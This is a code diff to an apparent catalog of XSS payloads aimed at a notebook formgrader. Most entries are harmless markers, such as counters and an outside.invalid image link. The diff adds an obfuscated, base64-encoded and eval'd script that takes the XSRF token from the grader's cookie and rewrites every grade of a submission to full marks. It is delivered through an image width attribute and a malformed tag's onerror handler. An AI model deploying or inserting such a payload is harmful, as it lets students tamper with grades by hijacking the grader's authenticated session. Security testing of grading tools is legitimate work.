@@ -1,7 +1,7 @@
 """What a submission may hold to act on whoever looks at it: one entry for each way, as data.
 
 `RUN` is a script that notes that it ran, and `OUT` an address of another host; both tell which
-entry it was. `PNG` is a picture. An entry's `where` says what it is put into:
+entry it was. `PNG` is a picture, and `MARKS` a script that gives full marks in the formgrader. An entry's `where` says what it is put into:
 
 - `text`: a Markdown cell; `answer`: a written answer, which the formgrader shows beside its own
   buttons; `raw`: a raw cell; `attached`: a Markdown cell with `more` as its attachments;
@@ -13,12 +13,20 @@ entry it was. `PNG` is a picture. An entry's `where` says what it is put into:
 
 from __future__ import annotations
 
+import base64
 import json
 import re
 from dataclasses import dataclass
 from typing import Any
 
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+FULL_MARKS = """
+ran.push("full marks");
+fetch(base_url + "/api/grades?submission_id=" + submission_id).then(r => r.json()).then(grades =>
+  grades.forEach(grade => fetch(base_url + "/api/grade/" + grade.id, {
+    method: "PUT", headers: {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)[1]},
+    body: JSON.stringify({manual_score: grade.max_score})})));
+"""
 SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script><image href='OUT'/><a href='javascript:RUN'><text y='20'>x</text></a></svg>"
 
 
@@ -43,13 +51,19 @@ def _filled(value: Any, number: int) -> Any:
     """The value with the words replaced, also within what is quoted."""
     text = json.dumps(value).replace("RUN", f"ran.push({number})")
     text = text.replace("OUT", f"http://outside.invalid/{number}")
-    return json.loads(text.replace("PNG", PNG))
+    marks = f"eval(atob(/{base64.b64encode(FULL_MARKS.encode()).decode()}/.source))"
+    return json.loads(text.replace("PNG", PNG).replace("MARKS", marks))
 
 
 def _(where: str, content: Any, tries: str, more: Any = None) -> None:
     number = len(ALL) + 1
     ALL.append(Payload(number, where, _filled(content, number), _filled(more, number), tries))
 
+
+# -- full marks for who looks ------------------------------------------------------------------
+
+_("shown", {"image/png": "PNG", "text/plain": "x"}, "a width that gives full marks", {"image/png": {"width": "1 onload=MARKS"}})  # fmt: skip
+_("text", '<b <img src=x onerror="MARKS">', "a tag in a tag that gives full marks")
 
 # -- scripts and handlers in HTML --------------------------------------------------------------
 
